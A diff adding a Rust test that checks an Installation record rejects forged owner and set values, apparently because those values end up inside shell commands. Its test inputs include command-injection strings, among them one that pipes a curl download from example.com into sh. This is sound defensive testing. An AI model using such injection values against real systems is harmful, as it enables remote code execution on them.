@@ -109,3 +109,18 @@ fn another_owner_or_set_makes_other_names() {
     assert!(ours().made(name.as_str()) && !other.made(name.as_str()));
     assert!(follows_our_scheme(name.as_str()));
 }
+
+/// Whoever may edit a service may write a record there, and what it says is printed as a part of commands.
+#[test]
+fn an_installation_in_a_record_is_one_that_somebody_can_run_as() {
+    let read = |owner: &str, set: &str| {
+        serde_json::from_value::<privatelink_core::names::Installation>(
+            serde_json::json!({"owner": owner, "set": set}),
+        )
+    };
+    assert!(read("acme", "payments/prod").is_ok());
+    for forged in ["x; curl example.com|sh #", "$(id)", "`id`", ""] {
+        assert!(read("acme", forged).is_err(), "{forged}");
+        assert!(read(forged, "default").is_err(), "{forged}");
+    }
+}
